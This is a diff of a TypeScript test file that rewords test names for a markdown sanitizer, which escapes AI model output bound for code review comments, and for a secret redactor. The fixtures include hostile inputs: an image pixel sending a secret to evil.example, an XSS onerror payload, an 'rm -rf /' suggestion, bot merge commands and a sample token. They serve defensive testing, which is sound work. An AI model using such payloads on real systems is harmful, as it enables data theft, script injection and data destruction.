@@ -12,8 +12,8 @@ import { listActiveContent, readVisibleText, renderGfm } from './gfm.ts'
 
 const clean = (text: string, maxLength = 1000) => escapeMarkdown(text, { maxLength })
 
-describe('case 44: text of a model is neutralised or cut', () => {
-  it('drops images and links to other hosts, and keeps their words', () => {
+describe('case 44: escapes or cuts model text', () => {
+  it('removes images and links to other hosts but keeps their words', () => {
     expect(
       clean('see ![pixel](https://evil.example/p.png?secret=1) and [docs](https://evil.example)'),
     ).toBe('see pixel and docs')
@@ -34,17 +34,17 @@ describe('case 44: text of a model is neutralised or cut', () => {
       expect(clean(text)).not.toMatch(/^\s*\/merge/m)
     }
   })
-  it('lets no HTML, hidden comment or marker of ours through, in code neither', () => {
+  it('removes HTML, hidden comments and our own markers, in code too', () => {
     expect(clean('<img src=x onerror=alert(1)>')).not.toContain('<')
     expect(clean('<!-- umpire:finding abc -->')).not.toContain('<!--')
     expect(clean('`<!-- umpire:finding abc -->`')).not.toContain('<!-- umpire:')
     expect(clean('```\n<!-- umpire:review v=1 -->\n```')).not.toContain('<!-- umpire:')
     expect(codeFence('suggestion', 'x <!-- umpire:finding abc -->')).not.toContain('<!-- umpire:')
   })
-  it('closes a code fence that is left open, and makes no suggestion of a block', () => {
+  it('closes an open code fence and turns suggestions into plain blocks', () => {
     expect(clean('look:\n```suggestion\nrm -rf /\n')).toBe('look:\n```\nrm -rf /\n```')
   })
-  it('keeps code as it is, with fences that its content cannot end', () => {
+  it('keeps code unchanged within fences that its content cannot end', () => {
     expect(clean('call `a@b.c` or `x[0](y)`')).toBe('call `a@b.c` or `x[0](y)`')
     expect(codeSpan('a`b')).toBe('``a`b``')
     expect(codeFence('', 'a\n```\nb')).toBe('````\na\n```\nb\n````')
@@ -52,17 +52,17 @@ describe('case 44: text of a model is neutralised or cut', () => {
   it('turns an unpaired backtick into a quote, so that it swallows nothing of ours', () => {
     expect(clean('an ` alone @everyone')).not.toContain('@everyone')
   })
-  it('removes control characters, hidden and direction-changing text', () => {
+  it('removes control characters and hidden or direction-changing text', () => {
     expect(clean('a\u202eb\u200bc\u0007d\u{e0041}e')).toBe('abcde')
     expect(clean('lone \ud800 half')).toBe('lone \ufffd half')
   })
   it('cuts 70,000 characters', () => {
     expect(clean('x'.repeat(70_000), 500)).toHaveLength(500)
   })
-  it('keeps a heading on its line and in its cell', () => {
+  it('keeps a heading on one line and in its table cell', () => {
     expect(escapeLine('a | b\n\n# c', { maxLength: 100 })).toBe('a \\| b # c')
   })
-  it('stays linear on hostile text', () => {
+  it('takes linear time on hostile text', () => {
     for (const unit of [
       '[',
       '`',
@@ -186,7 +186,7 @@ const hostile: readonly (readonly [name: string, text: string])[] = [
   ['a backslash at the end', `${payload} \\`],
 ]
 
-describe('case 44: GFM makes nothing live of it', () => {
+describe('case 44: GFM renders nothing active', () => {
   it.each(hostile)('%s', (_name, text) => {
     const once = clean(text, 5000)
     for (const output of [once, clean(once, 5000), clean(`${text}\n\n${text}`, 5000)]) {
@@ -201,11 +201,11 @@ describe('case 44: GFM makes nothing live of it', () => {
     ).toEqual([])
     expect(renderGfm(table).match(/<t[hd]\b/g)).toHaveLength(6)
   })
-  it('finds what is live where nothing is done about it', () => {
+  it('detects active content in unescaped text', () => {
     const parts = hostile.filter(([, text]) => listActiveContent(text).length > 0)
     expect(parts.length).toBeGreaterThan(30)
   })
-  it('breaks commands to chat bots in code too, and nothing else in it', () => {
+  it('breaks chat bot commands in code and leaves other code unchanged', () => {
     const code = 'a /merge\n/usr/bin/env x\n  @property\n@Input() name'
     expect(clean(`\`\`\`\n${code}\n\`\`\``)).toBe(`\`\`\`\n${code}\n\`\`\``)
     expect(clean('```\n/merge\n\t/LGTM-cancel now\n@dependabot merge\n```')).not.toMatch(
@@ -215,7 +215,7 @@ describe('case 44: GFM makes nothing live of it', () => {
       /^[\s>-]*\\?\/\w/m,
     )
   })
-  it('lets code be committed only where it is harmless as it is', () => {
+  it('allows committing code only where it is harmless', () => {
     expect(isHarmlessCode("  if (path === '/merge') {\n    return a | b // @alice #1")).toBe(true)
     expect(isHarmlessCode('a\r\nb')).toBe(true)
     for (const code of [
@@ -228,7 +228,7 @@ describe('case 44: GFM makes nothing live of it', () => {
       expect(isHarmlessCode(code)).toBe(false)
     }
   })
-  it('leaves no formula, and amounts as they are', () => {
+  it('leaves no math formula and keeps amounts of money', () => {
     expect(clean('$x$, $5x$ and $$y$$; $`z`$')).toBe('\\$x\\$, $5x\\$ and \\$\\$y\\$\\$; \\$`z`\\$')
     expect(clean('from $5 to $10.50')).toBe('from $5 to $10.50')
   })
@@ -251,7 +251,7 @@ describe('case 44: GFM makes nothing live of it', () => {
   })
 })
 
-describe('neutralised text', () => {
+describe('escaped text', () => {
   it('still reads as it was meant', () => {
     const text =
       'A **bold** `x|y` claim, _so_ ~~not~~ 5 < 6 & 7 > 3; a\\_b, C:\\dir, $5, x[0], 50%.\n\n1. one\n2. two\n\n> quoted'
@@ -270,17 +270,17 @@ describe('neutralised text', () => {
       expect(html).toContain(part)
     }
   })
-  it('comes out of a second time as it was', () => {
+  it('is unchanged when it is escaped again', () => {
     for (const [, text] of hostile) {
       const once = clean(text, 5000)
       expect(readVisibleText(renderGfm(clean(once, 9000)))).toBe(readVisibleText(renderGfm(once)))
     }
   })
-  it('keeps the lines before a fence as they are', () => {
+  it('keeps the lines before a fence unchanged', () => {
     expect(clean('- a\n- b\n```js\nx\n```\nafter')).toBe('- a\n- b\n```\nx\n```\nafter')
     expect(clean('one\ntwo\n\n```\nx\n```\n\nthree')).toBe('one\ntwo\n\n```\nx\n```\n\nthree')
   })
-  it('keeps the code of fences in lists and quotes', () => {
+  it('keeps fenced code in lists and quotes', () => {
     expect(clean('- see\n  ```js\n  if (a)\n    b()\n  ```\n- c')).toBe(
       '- see\n```\nif (a)\n  b()\n```\n- c',
     )
@@ -294,18 +294,18 @@ describe('neutralised text', () => {
     ['~~~ tilde title', 'tilde title'],
     ['```js broken', 'js broken'],
     ['# 1. - title', 'title'],
-  ])('keeps %j in its cell', (text, read) => {
+  ])('keeps %j in its table cell', (text, read) => {
     const cell = escapeLine(text, { maxLength: 200, inCell: true })
     const html = renderGfm(`| a | b |\n|---|---|\n| ${cell} | c |`)
     expect(readVisibleText(/<td>(.*)<\/td>\n<td>c<\/td>/.exec(html)?.[1] ?? html)).toBe(read)
   })
-  it('escapes pipes of code in cells only', () => {
+  it('escapes pipes of code only in table cells', () => {
     expect(codeSpan('a|b.ts')).toBe('`a|b.ts`')
     expect(codeSpan('a|b.ts', { inCell: true })).toBe('`a\\|b.ts`')
   })
 })
 
-describe('case 43: our own secrets are blotted out', () => {
+describe('case 43: redacts our own secrets', () => {
   const secret = 'ghs_16C7e42F292c6912E7/710c838347Ae178B4a+'
   const base64 = Buffer.from(secret).toString('base64')
   const forms: readonly (readonly [string, string])[] = [
@@ -330,7 +330,7 @@ describe('case 43: our own secrets are blotted out', () => {
     const blotted = redactKnownSecrets(`The token ${form} is used`, ['other-secret', secret])
     expect(blotted).toMatch(/^The token \S{0,3}\[secret\]\S{0,3} is used$/)
   })
-  it('case 43: short ones, where enough of them is there', () => {
+  it('case 43: redacts short secrets when enough of them appears', () => {
     expect(redactKnownSecrets('it is Tr0ub4dor&3, or r0ub4dor, or ub4dor', ['Tr0ub4dor&3'])).toBe(
       'it is [secret], or [secret], or ub4dor',
     )
@@ -338,7 +338,7 @@ describe('case 43: our own secrets are blotted out', () => {
       'use postgres or abc',
     )
   })
-  it('case 43: stays linear, and leaves other text alone', () => {
+  it('case 43: takes linear time and leaves other text unchanged', () => {
     const text = 'ghs_16C7e42F '.repeat(20_000)
     expect(
       redactKnownSecrets(text, [`${secret}x`.repeat(3), secret]).replaceAll('[secret] ', ''),
